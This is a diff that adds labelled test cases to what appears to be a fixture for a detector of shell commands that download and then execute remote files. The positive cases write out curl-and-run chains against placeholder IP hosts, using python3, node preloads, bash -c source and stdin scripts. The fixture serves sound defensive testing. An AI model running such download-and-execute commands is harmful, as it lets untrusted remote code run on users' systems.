@@ -296,3 +296,24 @@ env -i PATH=/usr/bin "$b" --prefix /opt
 #@ neg a download read by a program run through timeout
 curl -fsS https://api.example.com/v1/items -o items.json
 timeout 10 jq length items.json
+#@ neg a download given as data to a local script after its file
+curl -fsSL -o "$out" https://api.example.com/report
+python3 -u ./process.py "$out"
+#@ neg a download given as data to node and bash scripts
+wget -qO data.csv https://example.com/data.csv
+node report.js --input data.csv && bash ./summarize.sh ./data.csv
+#@ pos a download run by python3 after a value option
+curl -o tool.py https://203.0.113.7/t
+python3 -W ignore tool.py --yes
+#@ pos a download preloaded by node before a local script
+curl -fsS https://203.0.113.8/p -o ./hook.js
+node -r ./hook.js app.js
+#@ pos a download read by inline code after -c
+curl -so s https://203.0.113.9/s
+bash -c 'source "$0"' s
+#@ pos a download read by a script that comes from stdin
+curl -so payload https://203.0.113.10/p
+python3 - payload
+#@ pos a download named with and without ./
+curl -so x https://203.0.113.11/x
+node ./x
